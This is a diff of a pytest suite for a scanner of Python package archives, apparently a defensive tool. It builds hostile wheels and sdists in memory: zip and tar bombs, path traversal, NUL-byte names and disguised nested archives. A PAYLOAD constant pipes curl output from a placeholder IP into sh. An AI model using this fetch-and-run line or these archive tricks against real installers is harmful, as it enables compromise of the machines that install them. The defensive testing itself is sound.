@@ -1,8 +1,8 @@
 """Hostile input: reading and scanning never raise, never hang, stay within memory, never write to disk.
 
-Every archive here is built in memory by the test itself. Each case asserts the specific finding
-(rule id) or the `error` reason, plus bounds on time (a SIGALRM guard) and, where the attack is
-on memory, on the peak measured by tracemalloc.
+Every archive here is built in memory by the test itself, with the raw builders of tests/builders.py.
+Each case asserts the specific finding (rule id) or the `error` reason, plus bounds on time (a SIGALRM
+guard) and, where the attack is on memory, on the peak measured by tracemalloc.
 """
 
 from __future__ import annotations
@@ -11,7 +11,6 @@ import base64
 import contextlib
 import gzip
 import io
-import json
 import os
 import random
 import signal
@@ -26,17 +25,28 @@ import time
 import tracemalloc
 import zipfile
 import zlib
-from collections.abc import Iterable, Iterator
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
 from interlock.analysis.engine import scan_artifact
 from interlock.artifact.limits import DEFAULT_LIMITS, Deadline, Limits
-from interlock.artifact.model import Artifact
 from interlock.artifact.reader import UnsupportedArtifact, read_artifact, read_artifact_bytes
 from interlock.model.result import ScanResult
 from interlock.model.verdict import Verdict
+from tests.builders import (
+    bare_sdist_bytes,
+    bare_wheel_bytes,
+    check_well_formed,
+    message_of,
+    messages_of,
+    rule_ids,
+    scan_bytes,
+    tar_bytes,
+    tar_info,
+    zip_bytes,
+)
 
 MiB = 1024 * 1024
 WHEEL = "demo-1.0-py3-none-any.whl"
@@ -88,70 +98,7 @@ def memory_peak() -> Iterator[Peak]:
         tracemalloc.stop()
 
 
-# -- building archives -------------------------------------------------------------------------
-
-Entry = tuple[str | zipfile.ZipInfo, bytes | str]
-
-
-def zip_of(entries: Iterable[Entry], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", compression) as archive:
-        for name, data in entries:
-            if isinstance(name, zipfile.ZipInfo) and name.compress_type == zipfile.ZIP_STORED:
-                name.compress_type = compression
-            with _quiet_duplicates():
-                archive.writestr(name, data)
-    return buffer.getvalue()
-
-
-@contextlib.contextmanager
-def _quiet_duplicates() -> Iterator[None]:
-    import warnings
-
-    with warnings.catch_warnings():
-        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": that is the point
-        yield
-
-
-def wheel_of(files: dict[str, bytes | str]) -> bytes:
-    entries: list[Entry] = [
-        ("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
-    ]
-    entries += [("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")]
-    entries += list(files.items())
-    return zip_of(entries)
-
-
-def tar_info(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, linkname: str = "") -> tarfile.TarInfo:
-    info = tarfile.TarInfo(name)
-    info.type = kind
-    info.size = size
-    info.linkname = linkname
-    return info
-
-
-def tar_of(
-    members: Iterable[tarfile.TarInfo | tuple[str, bytes]], compression: str = "gz", fmt: int = tarfile.PAX_FORMAT
-) -> bytes:
-    buffer = io.BytesIO()
-    with tarfile.open(fileobj=buffer, mode=f"w:{compression}" if compression else "w", format=fmt) as archive:
-        for member in members:
-            if isinstance(member, tarfile.TarInfo):
-                archive.addfile(member)
-            else:
-                name, data = member
-                archive.addfile(tar_info(name, size=len(data)), io.BytesIO(data))
-    return buffer.getvalue()
-
-
-def sdist_of(files: dict[str, bytes | str]) -> bytes:
-    setup = b"from setuptools import setup\nsetup(name='demo', version='1.0')\n"
-    members = [
-        ("demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
-        ("demo-1.0/setup.py", setup),
-    ]
-    members += [(f"demo-1.0/{path}", data.encode() if isinstance(data, str) else data) for path, data in files.items()]
-    return tar_of(members)
+# -- payloads ----------------------------------------------------------------------------------
 
 
 def zlib_of_zeros(mib: int) -> bytes:
@@ -164,44 +111,6 @@ def zlib_of_zeros(mib: int) -> bytes:
     tail = deflate.flush()
     adler = (((mib * MiB) % 65521) << 16) | 1  # Adler-32 of n zero bytes: A stays 1, B counts n
     return b"\x78\xda" + block * mib + tail + adler.to_bytes(4, "big")
-
-
-# -- scanning ----------------------------------------------------------------------------------
-
-
-def check_well_formed(result: ScanResult) -> None:
-    """A verdict with its evidence: an error has a clear one-line reason; output encodes cleanly."""
-    assert isinstance(result.verdict, Verdict)
-    if result.verdict is Verdict.ERROR:
-        assert result.error and "\n" not in result.error and len(result.error) <= 300, result.error
-    else:
-        assert result.error is None
-    for finding in result.findings:
-        assert finding.message and "\n" not in finding.message, finding
-    json.dumps({"results": [result.to_json()]}).encode("utf-8")
-
-
-def scan_bytes(filename: str, data: bytes, limits: Limits = DEFAULT_LIMITS) -> tuple[Artifact, ScanResult]:
-    artifact = read_artifact_bytes(filename, data, limits)
-    result = scan_artifact(artifact, filename, deadline=Deadline(limits.max_seconds))
-    check_well_formed(result)
-    return artifact, result
-
-
-def rules(result: ScanResult) -> set[str]:
-    return {finding.rule for finding in result.findings}
-
-
-def messages(result: ScanResult, rule: str) -> list[str]:
-    return [item.message for item in result.findings if item.rule == rule]
-
-
-def finding(result: ScanResult, rule: str) -> str:
-    """The message of the first finding of `rule` (fails if there is none)."""
-    for item in result.findings:
-        if item.rule == rule:
-            return item.message
-    raise AssertionError(f"no {rule} finding in {sorted(rules(result))}")
 
 
 PAYLOAD = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
@@ -239,14 +148,14 @@ def test_zip_bomb_is_flagged_without_being_decompressed(zip_bomb: bytes, monkeyp
         artifact, result = scan_bytes(WHEEL, zip_bomb)
     assert "demo/data.bin" not in opened
     assert "demo/data.bin" not in artifact.members
-    assert "expands 209715200 bytes" in finding(result, "archive-compression-ratio")
+    assert "expands 209715200 bytes" in message_of(result, "archive-compression-ratio")
     assert result.verdict is Verdict.SUSPICIOUS
     assert peak.mib < 20, f"peak {peak.mib:.1f} MiB"
 
 
 def test_total_size_bomb_across_many_members_is_an_error() -> None:
     # Each member is under the 1 MiB ratio threshold; together they pass the total.
-    data = zip_of((f"demo/part{number}.bin", bytes(900 * 1024)) for number in range(12))
+    data = zip_bytes((f"demo/part{number}.bin", bytes(900 * 1024)) for number in range(12))
     with within(10):
         _, result = scan_bytes(WHEEL, data, Limits(max_total_bytes=4 * MiB))
     assert result.verdict is Verdict.ERROR
@@ -254,12 +163,12 @@ def test_total_size_bomb_across_many_members_is_an_error() -> None:
 
 
 def test_small_total_limits_are_described_in_bytes() -> None:
-    _, result = scan_bytes(WHEEL, zip_of([("demo/a.py", "x = 1\n" * 100)]), Limits(max_total_bytes=100))
+    _, result = scan_bytes(WHEEL, zip_bytes([("demo/a.py", "x = 1\n" * 100)]), Limits(max_total_bytes=100))
     assert result.error == "more than 100 bytes uncompressed in total"
 
 
 def test_too_many_members_is_an_error() -> None:
-    data = zip_of((f"demo/m{number}.py", "") for number in range(100))
+    data = zip_bytes((f"demo/m{number}.py", "") for number in range(100))
     _, result = scan_bytes(WHEEL, data, Limits(max_members=50))
     assert result.verdict is Verdict.ERROR
     assert result.error == "more than 50 archive entries"
@@ -270,42 +179,43 @@ def test_directories_and_rejected_entries_count_towards_the_entry_limit() -> Non
     # compresses to almost nothing.
     members = [tar_info(f"demo-1.0/d{number}/", tarfile.DIRTYPE) for number in range(100)]
     members += [tar_info(f"../escape{number}") for number in range(100)]
-    _, result = scan_bytes(SDIST, tar_of(members), Limits(max_members=150))
+    _, result = scan_bytes(SDIST, tar_bytes(members), Limits(max_members=150))
     assert result.error == "more than 150 archive entries"
 
 
 def test_member_over_the_member_limit_is_not_read() -> None:
-    data = wheel_of({"demo/__init__.py": "", "demo/big.bin": bytes(2 * MiB)})
+    data = bare_wheel_bytes({"demo/__init__.py": "", "demo/big.bin": bytes(2 * MiB)})
     artifact, result = scan_bytes(WHEEL, data, Limits(max_member_bytes=MiB, max_ratio=1e9))
     assert "demo/big.bin" not in artifact.members
-    assert "declares 2097152 bytes" in finding(result, "archive-member-too-large")
+    assert "declares 2097152 bytes" in message_of(result, "archive-member-too-large")
 
 
 def test_nested_archives_deeper_than_the_limit_are_not_read() -> None:
-    inner = wheel_of({"demo/deepest.py": PAYLOAD})
+    inner = bare_wheel_bytes({"demo/deepest.py": PAYLOAD})
     for level in range(3):
-        inner = zip_of([(f"level{level}.zip", inner)])
+        inner = zip_bytes([(f"level{level}.zip", inner)])
     with within(10):
-        artifact, result = scan_bytes(WHEEL, wheel_of({"demo/__init__.py": "", "demo/vendor.zip": inner}))
-    assert "deep; not read" in finding(result, "archive-nesting-too-deep")
+        artifact, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": "", "demo/vendor.zip": inner}))
+    assert "deep; not read" in message_of(result, "archive-nesting-too-deep")
     assert not any(path.endswith("deepest.py") for path in artifact.members)
 
 
 def test_code_hidden_in_a_zip_under_a_data_name_is_read_and_analysed() -> None:
-    hidden = zip_of([("hook.py", PAYLOAD.encode())])
-    artifact, result = scan_bytes(WHEEL, wheel_of({"demo/__init__.py": "", "demo/_types.typed": hidden}))
+    hidden = zip_bytes([("hook.py", PAYLOAD.encode())])
+    artifact, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": "", "demo/_types.typed": hidden}))
     assert "demo/_types.typed!/hook.py" in artifact.members
-    assert "hook.py" in finding(result, "archive-disguised")
+    assert "hook.py" in message_of(result, "archive-disguised")
 
 
 def test_a_bomb_inside_a_nested_archive_is_flagged_too(zip_bomb: bytes) -> None:
-    outer = wheel_of({"demo/__init__.py": "", "demo/vendor.whl": zip_bomb})
+    outer = bare_wheel_bytes({"demo/__init__.py": "", "demo/vendor.whl": zip_bomb})
     with within(10), memory_peak() as peak:
         _, result = scan_bytes(WHEEL, outer)
-    assert "archive-compression-ratio" in rules(result)
+    assert "archive-compression-ratio" in rule_ids(result)
     assert peak.mib < 30, f"peak {peak.mib:.1f} MiB"
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME, tarfile.GNUTYPE_LONGLINK])
 def test_tar_header_record_bomb_is_refused_before_it_is_read(kind: bytes) -> None:
     # A PAX or GNU long-name record declaring 200 MiB of (well-compressed) zeros: tarfile would read
@@ -324,7 +234,7 @@ def test_tar_header_record_bomb_is_refused_before_it_is_read(kind: bytes) -> Non
 
 def test_unknown_tar_member_type_with_an_absurd_size_does_not_hang() -> None:
     # tarfile skips unknown types by their size; 2**70 bytes would be skipped block by block forever.
-    data = tar_of(
+    data = tar_bytes(
         [("demo-1.0/setup.py", b"x = 1\n"), tar_info("demo-1.0/odd", b"Z", size=2**70)], fmt=tarfile.GNU_FORMAT
     )
     with within(10):
@@ -341,11 +251,11 @@ def test_unknown_tar_member_type_with_an_absurd_size_does_not_hang() -> None:
 )
 def test_path_traversal_is_flagged_and_not_read(name: str) -> None:
     for filename, data in (
-        (WHEEL, wheel_of({"demo/__init__.py": "", name: PAYLOAD})),
-        (SDIST, tar_of([("demo-1.0/setup.py", b""), (name, PAYLOAD.encode())])),
+        (WHEEL, bare_wheel_bytes({"demo/__init__.py": "", name: PAYLOAD})),
+        (SDIST, tar_bytes([("demo-1.0/setup.py", b""), (name, PAYLOAD.encode())])),
     ):
         artifact, result = scan_bytes(filename, data)
-        assert "escape the install directory" in finding(result, "archive-path-traversal")
+        assert "escape the install directory" in message_of(result, "archive-path-traversal")
         assert result.verdict is Verdict.SUSPICIOUS
         assert all(member.data != PAYLOAD.encode() for member in artifact.members.values())
 
@@ -353,11 +263,11 @@ def test_path_traversal_is_flagged_and_not_read(name: str) -> None:
 @pytest.mark.parametrize("name", ["/etc/passwd", "C:\\x", "c:/windows/evil.py", "\\\\server\\share\\evil.py"])
 def test_absolute_paths_are_flagged_and_not_read(name: str) -> None:
     for filename, data in (
-        (WHEEL, wheel_of({"demo/__init__.py": "", name: PAYLOAD})),
-        (SDIST, tar_of([("demo-1.0/setup.py", b""), (name, PAYLOAD.encode())])),
+        (WHEEL, bare_wheel_bytes({"demo/__init__.py": "", name: PAYLOAD})),
+        (SDIST, tar_bytes([("demo-1.0/setup.py", b""), (name, PAYLOAD.encode())])),
     ):
         artifact, result = scan_bytes(filename, data)
-        assert "absolute path" in finding(result, "archive-absolute-path")
+        assert "absolute path" in message_of(result, "archive-absolute-path")
         assert all(member.data != PAYLOAD.encode() for member in artifact.members.values())
 
 
@@ -369,23 +279,23 @@ def _with_nul(data: bytes, placeholder: bytes) -> bytes:
 
 def test_nul_in_a_zip_name_is_flagged_and_analysed_under_the_name_installers_use() -> None:
     # zipfile (and so pip) cuts the name at the NUL: `demo/__init__.py<NUL>.txt` installs as demo/__init__.py.
-    data = _with_nul(wheel_of({"demo/__init__.py#.txt": PAYLOAD}), b"__init__.py#")
+    data = _with_nul(bare_wheel_bytes({"demo/__init__.py#.txt": PAYLOAD}), b"__init__.py#")
     artifact, result = scan_bytes(WHEEL, data)
-    assert "NUL byte; installers read it as 'demo/__init__.py'" in finding(result, "archive-path-traversal")
+    assert "NUL byte; installers read it as 'demo/__init__.py'" in message_of(result, "archive-path-traversal")
     assert "demo/__init__.py" in artifact.members
-    assert "shell-download" in rules(result)
+    assert "shell-download" in rule_ids(result)
 
 
 def test_nul_in_a_tar_name_is_flagged() -> None:
     # A ustar name field ends at its first NUL (for pip too); a PAX path record can carry one.
-    data = tar_of([("demo-1.0/setup.py", b""), ("demo-1.0/\xe9vil\x00.py", PAYLOAD.encode())])
+    data = tar_bytes([("demo-1.0/setup.py", b""), ("demo-1.0/\xe9vil\x00.py", PAYLOAD.encode())])
     artifact, result = scan_bytes(SDIST, data)
-    assert "NUL byte" in finding(result, "archive-path-traversal")
+    assert "NUL byte" in message_of(result, "archive-path-traversal")
     assert not any("vil" in path for path in artifact.members)
 
 
 def test_tar_symlink_and_hardlink_are_flagged_with_their_targets() -> None:
-    data = tar_of(
+    data = tar_bytes(
         [
             ("demo-1.0/setup.py", b""),
             tar_info("demo-1.0/demo/creds", tarfile.SYMTYPE, linkname="/home/user/.ssh/id_rsa"),
@@ -404,18 +314,18 @@ def test_zip_symlink_is_flagged_and_its_content_still_analysed() -> None:
     # link bit must not hide it from the analysis.
     link = zipfile.ZipInfo("demo/__init__.py")
     link.external_attr = (stat.S_IFLNK | 0o777) << 16
-    artifact, result = scan_bytes(WHEEL, wheel_of({link: HIDDEN}))  # type: ignore[dict-item]
-    assert "symbolic or hard link" in finding(result, "archive-link")
+    artifact, result = scan_bytes(WHEEL, bare_wheel_bytes({link: HIDDEN}))  # type: ignore[dict-item]
+    assert "symbolic or hard link" in message_of(result, "archive-link")
     assert "demo/__init__.py" in artifact.members
-    assert "decoded-exec" in rules(result)
+    assert "decoded-exec" in rule_ids(result)
     assert result.verdict is Verdict.MALICIOUS
 
 
 @pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
 def test_tar_devices_and_fifos_are_flagged(kind: bytes) -> None:
-    data = tar_of([("demo-1.0/setup.py", b""), tar_info("demo-1.0/demo/dev", kind)])
+    data = tar_bytes([("demo-1.0/setup.py", b""), tar_info("demo-1.0/demo/dev", kind)])
     artifact, result = scan_bytes(SDIST, data)
-    assert "special file" in finding(result, "archive-device")
+    assert "special file" in message_of(result, "archive-device")
     assert "demo/dev" not in artifact.members
     assert result.verdict is Verdict.SUSPICIOUS
 
@@ -423,12 +333,12 @@ def test_tar_devices_and_fifos_are_flagged(kind: bytes) -> None:
 def test_zip_fifo_bits_are_flagged() -> None:
     fifo = zipfile.ZipInfo("demo/pipe")
     fifo.external_attr = (stat.S_IFIFO | 0o644) << 16
-    _, result = scan_bytes(WHEEL, wheel_of({"demo/__init__.py": "", fifo: b"data"}))  # type: ignore[dict-item]
-    assert "archive-device" in rules(result)
+    _, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": "", fifo: b"data"}))  # type: ignore[dict-item]
+    assert "archive-device" in rule_ids(result)
 
 
 def test_duplicate_zip_member_the_installed_last_copy_is_analysed() -> None:
-    data = zip_of(
+    data = zip_bytes(
         [
             ("demo/__init__.py", "x = 1\n"),
             ("demo/__init__.py", HIDDEN),
@@ -436,13 +346,13 @@ def test_duplicate_zip_member_the_installed_last_copy_is_analysed() -> None:
         ]
     )
     artifact, result = scan_bytes(WHEEL, data)
-    assert "the last copy is the one installed" in finding(result, "archive-duplicate-member")
+    assert "the last copy is the one installed" in message_of(result, "archive-duplicate-member")
     assert artifact.members["demo/__init__.py"].data == HIDDEN.encode()
-    assert "decoded-exec" in rules(result)
+    assert "decoded-exec" in rule_ids(result)
 
 
 def test_duplicate_tar_member_and_normalised_duplicates_are_flagged() -> None:
-    data = tar_of(
+    data = tar_bytes(
         [
             ("demo-1.0/setup.py", b"x = 1\n"),
             ("demo-1.0/./setup.py", HIDDEN.encode()),
@@ -460,7 +370,7 @@ def test_undecodable_tar_names_come_out_printable() -> None:
     with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.GNU_FORMAT, encoding="latin-1") as archive:
         for name, data in (("demo-1.0/setup.py", b""), ("demo-1.0/caf\xe9.py", b"import os\nos.system('id')\n")):
             archive.addfile(tar_info(name, size=len(data)), io.BytesIO(data))
-    artifact, result = scan_bytes(SDIST, buffer.getvalue())
+    artifact, _result = scan_bytes(SDIST, buffer.getvalue())
     assert "caf\ufffd.py" in artifact.members
     for path in artifact.members:
         path.encode("utf-8")
@@ -476,12 +386,12 @@ def _corrupt(result: ScanResult) -> str:
 
 
 def test_truncated_tar_gz_is_an_error() -> None:
-    data = sdist_of({f"demo/m{number}.py": os.urandom(2000).hex() for number in range(5)})
+    data = bare_sdist_bytes({f"demo/m{number}.py": os.urandom(2000).hex() for number in range(5)})
     _corrupt(scan_bytes(SDIST, data[: len(data) // 2])[1])
 
 
 def test_truncated_zip_is_an_error() -> None:
-    data = wheel_of({f"demo/m{number}.py": os.urandom(2000).hex() for number in range(5)})
+    data = bare_wheel_bytes({f"demo/m{number}.py": os.urandom(2000).hex() for number in range(5)})
     assert "BadZipFile" in _corrupt(scan_bytes(WHEEL, data[: len(data) // 2])[1])
 
 
@@ -500,19 +410,19 @@ def test_a_second_gzip_member_is_read_as_pip_reads_it() -> None:
     second += hidden.ljust(512, b"\0") + bytes(1024)
     artifact, result = scan_bytes(SDIST, gzip.compress(first) + gzip.compress(second))
     assert "demo/__init__.py" in artifact.members
-    assert "shell-download" in rules(result)
+    assert "shell-download" in rule_ids(result)
 
 
 def test_a_tar_gz_with_a_zip_appended_is_read_as_a_zip_like_pip() -> None:
     # pip unzips whatever zipfile.is_zipfile accepts, whatever the name says.
-    benign = sdist_of({"demo/__init__.py": "x = 1\n"})
-    hidden = zip_of([("demo-1.0/setup.py", HIDDEN)])
-    artifact, result = scan_bytes(SDIST, benign + hidden)
-    assert "decoded-exec" in rules(result)
+    benign = bare_sdist_bytes({"demo/__init__.py": "x = 1\n"})
+    hidden = zip_bytes([("demo-1.0/setup.py", HIDDEN)])
+    _artifact, result = scan_bytes(SDIST, benign + hidden)
+    assert "decoded-exec" in rule_ids(result)
 
 
 def test_zip_member_declaring_less_than_it_inflates_to_is_not_trusted() -> None:
-    data = bytearray(wheel_of({"demo/__init__.py": "", "demo/liar.py": "x = 1\n" * 10_000}))
+    data = bytearray(bare_wheel_bytes({"demo/__init__.py": "", "demo/liar.py": "x = 1\n" * 10_000}))
     # Patch the uncompressed size (local header offset 22, central header offset 24) down to 100.
     real = struct.pack("<I", 60_000)
     for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
@@ -524,7 +434,7 @@ def test_zip_member_declaring_less_than_it_inflates_to_is_not_trusted() -> None:
     with memory_peak() as peak:
         artifact, result = scan_bytes(WHEEL, bytes(data))
     assert "demo/liar.py" not in artifact.members
-    assert "CRC" in finding(result, "archive-unreadable-member")
+    assert "CRC" in message_of(result, "archive-unreadable-member")
     assert peak.mib < 10
 
 
@@ -544,26 +454,26 @@ def test_empty_and_garbage_files_are_errors(filename: str, data: bytes) -> None:
 def test_damaged_zip_members_are_findings_not_crashes() -> None:
     # LZMA data that is not LZMA, an encrypted member and an unknown method: each is one unreadable member.
     good = ("demo/__init__.py", "import os\nos.system('id')\n")
-    data = bytearray(zip_of([good, ("demo/lzma.py", os.urandom(3000).hex())], zipfile.ZIP_LZMA))
+    data = bytearray(zip_bytes([good, ("demo/lzma.py", os.urandom(3000).hex())], zipfile.ZIP_LZMA))
     info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("demo/lzma.py")
     start = info.header_offset + 30 + len(info.filename) + len(info.extra) + 9  # past LZMA's own header
     data[start : start + 64] = bytes(64)
     artifact, result = scan_bytes(WHEEL, bytes(data))
     assert "demo/__init__.py" in artifact.members and "demo/lzma.py" not in artifact.members
-    assert "archive-unreadable-member" in rules(result)
+    assert "archive-unreadable-member" in rule_ids(result)
 
-    data = bytearray(zip_of([good, ("demo/secret.py", "x = 1\n")]))
+    data = bytearray(zip_bytes([good, ("demo/secret.py", "x = 1\n")]))
     info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("demo/secret.py")
     data[info.header_offset + 6] |= 0x1  # "encrypted" in the local header…
     central = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 4)
     data[central + 8] |= 0x1  # …and in the central directory (zipfile will not write it for us)
     artifact, result = scan_bytes(WHEEL, bytes(data))
-    assert "password required" in finding(result, "archive-unreadable-member")
+    assert "password required" in message_of(result, "archive-unreadable-member")
     assert "demo/__init__.py" in artifact.members
 
 
 def test_zip_claiming_an_unknown_format_version_is_an_error() -> None:
-    data = bytearray(wheel_of({"demo/__init__.py": ""}))
+    data = bytearray(bare_wheel_bytes({"demo/__init__.py": ""}))
     central = data.find(b"PK\x01\x02")
     data[central + 6] = 99  # "version needed to extract": 9.9
     assert "NotImplementedError" in _corrupt(scan_bytes(WHEEL, bytes(data))[1])
@@ -572,12 +482,12 @@ def test_zip_claiming_an_unknown_format_version_is_an_error() -> None:
 def test_random_damage_never_escapes() -> None:
     # A small deterministic fuzz over every format the reader takes: whatever the damage, a result.
     seeds = [
-        (WHEEL, wheel_of({"demo/__init__.py": PAYLOAD, "demo/inner.zip": zip_of([("a.py", "x = 1\n")])})),
-        ("demo-1.0.zip", zip_of([("demo-1.0/setup.py", PAYLOAD)], zipfile.ZIP_BZIP2)),
-        ("demo-1.0.zip", zip_of([("demo-1.0/setup.py", PAYLOAD)], zipfile.ZIP_LZMA)),
-        (SDIST, sdist_of({"demo/__init__.py": PAYLOAD})),
-        ("demo-1.0.tar.bz2", tar_of([("demo-1.0/setup.py", PAYLOAD.encode())], "bz2")),
-        ("demo-1.0.tar.xz", tar_of([("demo-1.0/setup.py", PAYLOAD.encode())], "xz")),
+        (WHEEL, bare_wheel_bytes({"demo/__init__.py": PAYLOAD, "demo/inner.zip": zip_bytes([("a.py", "x = 1\n")])})),
+        ("demo-1.0.zip", zip_bytes([("demo-1.0/setup.py", PAYLOAD)], zipfile.ZIP_BZIP2)),
+        ("demo-1.0.zip", zip_bytes([("demo-1.0/setup.py", PAYLOAD)], zipfile.ZIP_LZMA)),
+        (SDIST, bare_sdist_bytes({"demo/__init__.py": PAYLOAD})),
+        ("demo-1.0.tar.bz2", tar_bytes([("demo-1.0/setup.py", PAYLOAD.encode())], "bz2")),
+        ("demo-1.0.tar.xz", tar_bytes([("demo-1.0/setup.py", PAYLOAD.encode())], "xz")),
     ]
     rng = random.Random(20261128)
     with within(60):
@@ -607,19 +517,19 @@ def test_a_fifo_named_like_an_artifact_is_refused_not_waited_on(tmp_path: Path) 
 
 
 def scan_source(source: bytes | str, limits: Limits = DEFAULT_LIMITS) -> ScanResult:
-    return scan_bytes(WHEEL, wheel_of({"demo/__init__.py": source}), limits)[1]
+    return scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": source}), limits)[1]
 
 
 def test_source_with_nul_bytes() -> None:
     result = scan_source(b"import os\x00\nos.system('id')\n")
-    assert "NUL" in finding(result, "source-null-bytes")
-    assert "process-spawn" in rules(result)
+    assert "NUL" in message_of(result, "source-null-bytes")
+    assert "process-spawn" in rule_ids(result)
 
 
 def test_source_that_is_not_utf8() -> None:
     result = scan_source("# caf\xe9\nimport os\nos.system('id')\n".encode("latin-1"))
-    assert "declared encoding" in finding(result, "source-not-utf8")
-    assert "process-spawn" in rules(result)
+    assert "declared encoding" in message_of(result, "source-not-utf8")
+    assert "process-spawn" in rule_ids(result)
 
 
 DEEP_SOURCES = {
@@ -639,7 +549,7 @@ def test_deeply_nested_source_is_a_finding_not_a_crash(name: str) -> None:
     source, rule = DEEP_SOURCES[name]
     with within(20):
         result = scan_source(source)
-    assert rule in rules(result), sorted(rules(result))
+    assert rule in rule_ids(result), sorted(rule_ids(result))
 
 
 def test_deep_sources_do_not_crash_a_fresh_interpreter() -> None:
@@ -669,24 +579,26 @@ def test_deep_sources_do_not_crash_a_fresh_interpreter() -> None:
     assert done.stdout.strip() == "survived"
 
 
+@pytest.mark.slow
 def test_twenty_megabyte_single_line_source() -> None:
     line = "x = '" + "A" * (20 * MiB) + "'; import os; os.system('id')\n"
     with within(30):
         result = scan_source(line, Limits(max_ratio=1e9))  # over the 8 MiB kept in memory: reported, not analysed
-    assert "too large to analyse" in finding(result, "source-too-large")
+    assert "too large to analyse" in message_of(result, "source-too-large")
     with within(60), memory_peak() as peak:
         result = scan_source(line, Limits(max_kept_bytes=32 * MiB, max_ratio=1e9))
-    assert "process-spawn" in rules(result)
+    assert "process-spawn" in rule_ids(result)
     assert peak.mib < 400, f"peak {peak.mib:.0f} MiB"
 
 
+@pytest.mark.slow
 def test_source_with_too_many_tokens_is_scanned_as_text_within_bounded_memory() -> None:
     # ast.parse costs ~700 bytes per token on "a,a,a,…": 8 MiB of it needed over 5 GB before the guard.
     source = "x = [" + "a," * (3 * MiB) + "]\nimport os\nos.system('id')\n"  # 6 MiB, under the 8 MiB kept
     with within(60), memory_peak() as peak:
         result = scan_source(source, Limits(max_ratio=1e9))
-    assert "too many to parse" in finding(result, "source-too-large")
-    assert "process-spawn" in rules(result)  # the text fallback still sees the call
+    assert "too many to parse" in message_of(result, "source-too-large")
+    assert "process-spawn" in rule_ids(result)  # the text fallback still sees the call
     assert peak.mib < 150, f"peak {peak.mib:.0f} MiB"
 
 
@@ -694,20 +606,21 @@ def test_a_file_that_is_one_big_string_still_parses() -> None:
     # Long string constants (generated data tables) are one token each, not a reason to skip the AST.
     source = "DATA = '" + "ab cd, ef; " * 200_000 + "'\nimport os\nos.system('id')\n"
     result = scan_source(source)
-    assert "source-too-large" not in rules(result)
-    assert "process-spawn" in rules(result)
+    assert "source-too-large" not in rule_ids(result)
+    assert "process-spawn" in rule_ids(result)
 
 
 # -- decoding bombs inside source --------------------------------------------------------------
 
 
+@pytest.mark.slow
 def test_zlib_bomb_inside_base64_inside_exec_is_bounded() -> None:
     bomb = base64.b64encode(zlib_of_zeros(1024)).decode()  # 1 GiB once inflated
     source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{bomb}')))\n"
     with within(30), memory_peak() as peak:
         result = scan_source(source)
     assert result.verdict is not Verdict.ERROR
-    assert rules(result) & {"decoded-exec", "obfuscated-exec", "decode-capability"} or result.findings
+    assert rule_ids(result) & {"decoded-exec", "obfuscated-exec", "decode-capability"} or result.findings
     assert peak.mib < 100, f"peak {peak.mib:.0f} MiB"
 
 
@@ -726,6 +639,7 @@ def test_zlib_of_zeros_helper_is_a_valid_stream() -> None:
     assert zlib.decompress(zlib_of_zeros(3)) == bytes(3 * MiB)
 
 
+@pytest.mark.slow
 def test_many_multi_megabyte_payloads_are_bounded_in_time_and_memory() -> None:
     # Each line hides ~4 MiB of statements (just under the folder's output bound). Before the
     # payload budget, ten such lines took over two minutes and 1.6 GB. (No tracemalloc here: it
@@ -737,17 +651,18 @@ def test_many_multi_megabyte_payloads_are_bounded_in_time_and_memory() -> None:
     source = "import base64, zlib\n" + "".join(lines)
     with within(30):
         result = scan_source(source)
-    assert any("hidden payloads over 16 MiB" in message for message in messages(result, "source-too-large"))
-    assert "decoded-exec" in rules(result)
+    assert any("hidden payloads over 16 MiB" in message for message in messages_of(result, "source-too-large"))
+    assert "decoded-exec" in rule_ids(result)
 
 
+@pytest.mark.slow
 def test_the_same_payload_revealed_many_times_is_analysed_once() -> None:
     payload = base64.b64encode(zlib.compress(b"import os\nos.system('id')\n" + b"x = 1\n" * 650_000, 9)).decode()
     source = "import base64, zlib\n" + f"exec(zlib.decompress(base64.b64decode('{payload}')))\n" * 40
     with within(60):
         result = scan_source(source)
-    assert not any("hidden payloads over" in message for message in messages(result, "source-too-large"))
-    assert "decoded-exec" in rules(result)
+    assert not any("hidden payloads over" in message for message in messages_of(result, "source-too-large"))
+    assert "decoded-exec" in rule_ids(result)
 
 
 # -- the time budget ---------------------------------------------------------------------------
@@ -755,7 +670,7 @@ def test_the_same_payload_revealed_many_times_is_analysed_once() -> None:
 
 def large_wheel(files: int = 3000) -> bytes:
     body = "import os\n\ndef f(x):\n    return os.path.join(x, 'y')\n" * 20
-    return wheel_of({f"demo/m{number}.py": body for number in range(files)})
+    return bare_wheel_bytes({f"demo/m{number}.py": body for number in range(files)})
 
 
 def test_time_budget_while_reading_ends_in_an_error() -> None:
@@ -776,6 +691,7 @@ def test_time_budget_while_analysing_ends_in_an_error() -> None:
     assert result.error == "analysis took longer than 0.01 s"
 
 
+@pytest.mark.slow
 def test_time_budget_is_checked_inside_one_huge_member() -> None:
     # One 512 MiB member (as the last entry, so no later entry would check the clock).
     compressor = zlib.compressobj(1, zlib.DEFLATED, 31)
@@ -839,7 +755,7 @@ class _Watch:
